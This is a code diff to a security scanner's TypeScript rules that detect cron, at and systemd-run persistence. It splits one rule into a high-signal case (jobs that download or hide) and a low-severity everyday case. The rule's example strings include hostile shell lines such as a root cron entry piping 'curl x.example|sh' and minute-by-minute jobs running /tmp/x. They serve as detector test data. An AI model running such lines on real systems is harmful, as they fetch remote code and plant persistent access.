@@ -1,50 +1,58 @@
-import type { Rule } from '../../rule.ts';
+import type { Rule, RuleMatch } from '../../rule.ts';
 import { expression } from '../boundary.ts';
 import { isSuspicious, isWritten, standsAsCommand, WORD_START, writing } from '../shell_syntax.ts';
 import { PERSISTENCE } from './format.ts';
 
 const HOME = String.raw`[~\w./$\{\}-]{0,48}`;
 
+/** How a job of cron or at is put in place. */
+const JOB = {
+  source: 'https://attack.mitre.org/techniques/T1053/003/',
+  keywords: ['crontab -', 'crontab /', '/etc/cron', 'spool/cron', '| at ', '|at ', 'at now +', 'systemd-run'],
+  expression: expression(
+    'gi',
+    '(?:',
+    [
+      String.raw`\|[ \t]{0,4}(?:sudo[ \t]{1,4})?crontab(?:[ \t]{1,4}-u[ \t]{1,4}[\w.-]{1,32})?[ \t]{1,4}-(?![A-Za-z-])`,
+      String.raw`${WORD_START}crontab[ \t]{1,4}(?:/tmp/|/dev/shm/|/var/tmp/)[\w.-]{1,60}`,
+      String.raw`\|[ \t]{0,4}at[ \t]{1,4}(?:now|midnight|noon|[0-9]{1,2}:[0-9]{2})(?![\w:])`,
+      String.raw`${WORD_START}at[ \t]{1,4}now[ \t]{1,4}\+[ \t]{1,4}\d{1,4}[ \t]{1,4}[a-z]{3,8}[ \t]{0,4}(?:<<<|-f)[^\r\n]{2,60}`,
+      String.raw`${WORD_START}systemd-run[ \t][^\r\n;|&]{0,60}?--on-(?:calendar|boot|startup|active|unit-active)[ \t=][^\r\n;|&]{2,60}`,
+      writing(String.raw`/(?:etc/cron(?:tab|\.[a-z]{1,8}/)|var/spool/cron/)[\w./-]{0,60}`),
+    ].join('|'),
+    ')',
+  ),
+  reach: { before: 100, after: 110 },
+} as const;
+
+/** Folders that programs keep what they install in. */
+const OWN_FOLDER = /\/\.(?:venv|local|nvm|cargo|rbenv|pyenv|config|bun|deno|npm|acme|asdf|sdkman|dotnet)/g;
+
+/** Whether a job downloads or hides. */
+function liesInWait({ before, text, after }: RuleMatch): boolean {
+  const job = before + text + after;
+  return (
+    isSuspicious(job) || /\/\.[a-z][\w-]*/i.test(job.replace(OWN_FOLDER, '')) || /\/\/\d{1,3}\.\d/.test(job)
+  );
+}
+
 /** Jobs, services, login scripts and libraries that start a program. */
 export const STARTUP_RULES: readonly Rule[] = [
   {
     ...PERSISTENCE,
+    ...JOB,
     id: 'cron_job_written',
-    source: 'https://attack.mitre.org/techniques/T1053/003/',
-    keywords: [
-      'crontab -',
-      'crontab /',
-      '/etc/cron',
-      'spool/cron',
-      '| at ',
-      '|at ',
-      'at now +',
-      'systemd-run',
-    ],
-    expression: expression(
-      'gi',
-      '(?:',
-      [
-        String.raw`\|[ \t]{0,4}(?:sudo[ \t]{1,4})?crontab(?:[ \t]{1,4}-u[ \t]{1,4}[\w.-]{1,32})?[ \t]{1,4}-(?![A-Za-z-])`,
-        String.raw`${WORD_START}crontab[ \t]{1,4}(?:/tmp/|/dev/shm/|/var/tmp/)[\w.-]{1,60}`,
-        String.raw`\|[ \t]{0,4}at[ \t]{1,4}(?:now|midnight|noon|[0-9]{1,2}:[0-9]{2})(?![\w:])`,
-        String.raw`${WORD_START}at[ \t]{1,4}now[ \t]{1,4}\+[ \t]{1,4}\d{1,4}[ \t]{1,4}[a-z]{3,8}[ \t]{0,4}(?:<<<|-f)[^\r\n]{2,60}`,
-        String.raw`${WORD_START}systemd-run[ \t][^\r\n;|&]{0,60}?--on-(?:calendar|boot|startup|active|unit-active)[ \t=][^\r\n;|&]{2,60}`,
-        writing(String.raw`/(?:etc/cron(?:tab|\.[a-z]{1,8}/)|var/spool/cron/)[\w./-]{0,60}`),
-      ].join('|'),
-      ')',
-    ),
-    reach: { before: 100, after: 110 },
-    validate: isWritten,
-    describes: 'A job that cron or at will run, put in place by a command.',
+    validate: (match) => isWritten(match) && liesInWait(match),
+    describes:
+      'A job that cron or at will run, of the sort that downloads or hides, put in place by a command.',
     get finds() {
       return [
         '(crontab -l; echo "* * * * * /tmp/x") | crontab -',
         'echo "* * * * * root curl x.example|sh" >> /etc/crontab',
-        'printf x | sudo tee /etc/cron.d/x',
         'crontab /tmp/jobs',
         'echo /tmp/x | at now + 1 minute',
         '{"path":"/etc/cron.d/x","content":"* * * * * root /tmp/x"}',
+        'echo "@daily /home/u/.x/y" | crontab -',
       ];
     },
     get ignores() {
@@ -53,9 +61,29 @@ export const STARTUP_RULES: readonly Rule[] = [
         'crontab -e',
         'cat /etc/crontab',
         '| at the end',
-        'run-parts /etc/cron.daily',
+        '(crontab -l; echo "0 3 * * * /home/u/bin/backup.sh") | crontab -',
         '{"path":"/etc/crontab"}',
       ];
+    },
+  },
+  {
+    ...PERSISTENCE,
+    ...JOB,
+    id: 'cron_job_added',
+    severity: 'low',
+    confidence: 'low',
+    validate: (match) => isWritten(match) && !liesInWait(match),
+    everyday: () => true,
+    describes: 'A job that cron or at will run, put in place by a command.',
+    get finds() {
+      return [
+        '(crontab -l; echo "0 3 * * * /home/u/bin/backup.sh") | crontab -',
+        'printf x | sudo tee /etc/cron.d/x',
+        'echo "make test" | at midnight',
+      ];
+    },
+    get ignores() {
+      return ['crontab -l', 'run-parts /etc/cron.daily', '(echo "* * * * * /tmp/x") | crontab -'];
     },
   },
   {
